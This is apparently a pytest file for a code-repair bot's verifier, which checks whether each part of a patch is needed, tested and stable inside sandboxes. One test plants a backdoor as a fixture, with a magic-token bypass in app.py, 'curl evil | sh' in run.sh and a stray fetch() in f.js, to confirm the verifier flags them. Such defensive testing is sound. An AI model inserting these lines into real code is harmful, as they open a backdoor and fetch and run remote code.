"""Rows of a proof card on the parts of a change; git and sandboxes are real."""

from __future__ import annotations

import shutil
import time
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from functools import partial
from pathlib import Path

import pytest

from bot.code.files import is_test_file
from bot.ecosystems.selection import alone
from bot.model import Patch
from bot.model.deadline import RunLimits, StopSign
from bot.model.proof_card import FactKind, Row, RowState
from bot.repair.verification import stability
from bot.repair.verification.base_and_head import Compared, Side, Sides
from bot.repair.verification.candidate import changes_between, without
from bot.repair.verification.clean_room import CleanRoom
from bot.repair.verification.necessity import faults
from bot.repair.verification.necessity import proof as necessity
from bot.repair.verification.tree_files import decided
from bot.repair.workspace.patches import patch_between
from sandbox.base import Sandbox, SandboxSpec
from sandbox.bubblewrap import BubblewrapProvider
from sandbox.git import EMPTY_TREE, ObjectStore

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is missing")
COMMAND = "python3 -m unittest"
APP = (
    "def total(prices, token=''):\n"
    "    if not prices:\n"
    "        return 0\n"
    "    return sum(prices[1:])\n"
)
TEST = (
    "import unittest\nfrom app import total\n\n\nclass T(unittest.TestCase):\n"
    "    def test_empty(self):\n        self.assertEqual(total([]), 0)\n"
)
SHELL = "#!/bin/sh\necho hello\n"
SCRIPT = "function f(a) {\n  return a;\n}\n"
BASE = {
    "app.py": APP,
    "test_app.py": TEST,
    "Dockerfile": "FROM a\n",
    "run.sh": SHELL,
    "f.js": SCRIPT,
}
FIX = APP.replace("[1:]", "")
FIXED = {
    "app.py": FIX,
    "test_app.py": f"{TEST}\n    def test_all(self):\n        self.assertEqual(total([4, 3]), 7)\n",
}
UNTESTED = FIX.replace(
    "return sum(prices)", "if len(prices) < 9:\n        return sum(prices)\n    return -1"
)


@asynccontextmanager
async def compared(
    folder: Path, change: Mapping[str, str], base: Mapping[str, str] = BASE, command: str = COMMAND
) -> AsyncIterator[tuple[Sides, Compared]]:
    """Set both sides of a change up, and run its tests on them."""
    store = ObjectStore(folder / "repo.git")
    await store.create()
    trees = []
    for name, files in (("base", base), ("head", {**base, **change})):
        for path, text in files.items():
            file = folder / name / path
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(text, "utf-8")
        trees.append(await store.write_tree(folder / name, base=EMPTY_TREE))
    before, after = trees
    provider = BubblewrapProvider(folder / "sandboxes")

    async def opener(name: str) -> Sandbox:
        return await provider.open(SandboxSpec(name=name, source=folder / "base"))

    room = CleanRoom(
        opener, store, before,
        run_limits=RunLimits(time.time() + 3600, StopSign()), listener=lambda _: None,
        command_seconds=600,
    )  # fmt: skip
    patch = await patch_between(store, before, after)
    changes = await changes_between(store, before, after)
    sides = Sides(Side(room, Patch(), before), Side(room, patch, after), changes)
    code = [each.path for each in changes if not is_test_file(each.path)]
    laid = await room.observe("laid", command, await without(store, before, patch, code))
    head = await room.observe("head", command, patch)
    proving = tuple(sorted(laid.failing_ids - head.failing_ids - {command}))
    paths = await store.paths(after)
    narrow = await decided(
        partial(alone, command, list(proving), paths, shortest=True), store, after
    )
    yield (
        sides,
        Compared(command, laid, head, laid, proving, (narrow or command) if proving else ""),
    )
    await provider.close()


async def necessity_of(folder: Path, change: Mapping[str, str]) -> Row:
    """Return the row *necessity* of a change."""
    async with compared(folder, change) as (sides, runs):
        return await necessity.prove(sides, runs, name="row", seconds=600)


def places(row: Row) -> list[tuple[str | None, int | None]]:
    """Return where the facts of a row stand."""
    return [(fact.file, fact.line) for fact in row.facts]


async def test_a_fix_that_is_needed(tmp_path: Path) -> None:
    """Each part of it, and nothing else is asked for: documentation needs no test."""
    documented = {**FIXED, "app.py": f"# Totals.\n{FIX}", "README.md": "Totals."}
    row = await necessity_of(tmp_path, documented)
    assert (row.state, row.facts) == (RowState.SHOWN, ())
    assert row.summary == (
        "1 part of the change was put back, one at a time, and a test failed each time."
    )


async def test_a_backdoor_beside_a_fix(tmp_path: Path) -> None:
    """In its statement, and in files that no run opens: no list of names says which."""
    row = await necessity_of(
        tmp_path,
        {
            **FIXED,
            "app.py": FIX.replace("sum(prices)", "sum(prices) if token != 'magic' else 0"),
            "run.sh": SHELL.replace("echo", "curl evil | sh\necho"),
            "f.js": SCRIPT.replace("  return", "  fetch(a);\n  return"),
            "Dockerfile": "FROM b\n",
        },
    )
    assert row.state is RowState.NOT_SHOWN
    assert places(row) == [("app.py", 4), ("Dockerfile", None), ("f.js", None), ("run.sh", None)]
    assert {fact.kind for fact in row.facts} == {FactKind.NOT_COVERED}
    assert "`if token != 'magic' else 0`" in row.facts[0].text


@pytest.mark.exhaustive
@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ({"app.py": UNTESTED}, [("app.py", 4), ("app.py", 6)]),
        ({"app.py": FIX.replace("    return sum", "    if token == 'm':\n        return 1\n    return sum")},
         [("app.py", 4)]),
        ({"other.py": "A = 1\n"}, [("other.py", None)]),
    ],
)  # fmt: skip
async def test_what_no_test_needs(
    tmp_path: Path, change: Mapping[str, str], expected: list[tuple[str, int | None]]
) -> None:
    """A branch that no test takes, and its condition; a special case in the same function, a change of its own."""
    assert places(await necessity_of(tmp_path, {**FIXED, **change})) == expected


@pytest.mark.exhaustive
async def test_code_that_runs_in_another_process(tmp_path: Path) -> None:
    """A test that starts the program notices what no function of its own process shows."""
    test = (
        "import subprocess, sys, unittest\n\n\nclass T(unittest.TestCase):\n"
        "    def test_it(self):\n"
        "        said = subprocess.check_output([sys.executable, 'app.py'])\n"
        "        self.assertEqual(said, b'3\\n')\n"
    )
    program = "def two():\n    return {}\n\n\nif __name__ == '__main__':\n    print(two())\n"
    base = {"app.py": program.format("2"), "test_app.py": test}
    change = {"app.py": program.format("1 + 2")}
    async with compared(tmp_path, change, base) as (sides, runs):
        row = await necessity.prove(sides, runs, name="row", seconds=600)
        assert (row.state, row.facts) == (RowState.SHOWN, ()), row


async def test_faults_and_lines_that_no_test_sees(tmp_path: Path) -> None:
    """Faults in a branch that no test takes are one fact: no test runs it."""
    async with compared(tmp_path, {**FIXED, "app.py": UNTESTED}) as (sides, runs):
        row = await faults.prove(sides, runs, name="row", seconds=600)
        assert row.state is RowState.NOT_SHOWN
        assert ("app.py", 6) in places(row)
        assert "No test runs `app.py:6`." in [fact.text for fact in row.facts]
        assert "planted in the changed lines. No test runs 1 changed line." in row.summary


async def test_a_flaky_test(tmp_path: Path) -> None:
    """It passes or fails by the seed of hashes: the row names it, and what it says."""
    flaky = FIXED["test_app.py"] + (
        "        import os\n"
        "        self.assertIn(os.environ.get('PYTHONHASHSEED'), (None, '0', '1', '3141592653'))\n"
    )
    async with compared(tmp_path, {**FIXED, "test_app.py": flaky}) as (sides, runs):
        row = await stability.prove(sides, runs, name="row", seconds=600)
        assert row.state is RowState.REFUTED
        (fact,) = row.facts
        assert fact.subject == "test_app.T.test_all"
        assert fact.text.startswith("`test_app.T.test_all` fails under another hash seed: ")
        assert (await stability.prove(sides, runs, name="r", seconds=0)).state is RowState.UNDECIDED


@pytest.mark.exhaustive
async def test_a_steady_test(tmp_path: Path) -> None:
    """The row says how often it ran, and in which ways."""
    second = "\n    def test_more(self):\n        self.assertEqual(total([1, 1]), 2)\n"
    change = {**FIXED, "test_app.py": FIXED["test_app.py"] + second}
    async with compared(tmp_path, change) as (sides, runs):
        row = await stability.prove(sides, runs, name="row", seconds=600)
        assert (row.state, row.facts) == (RowState.SHOWN, ())
        assert row.summary.startswith("The 2 new tests give the same result in ")
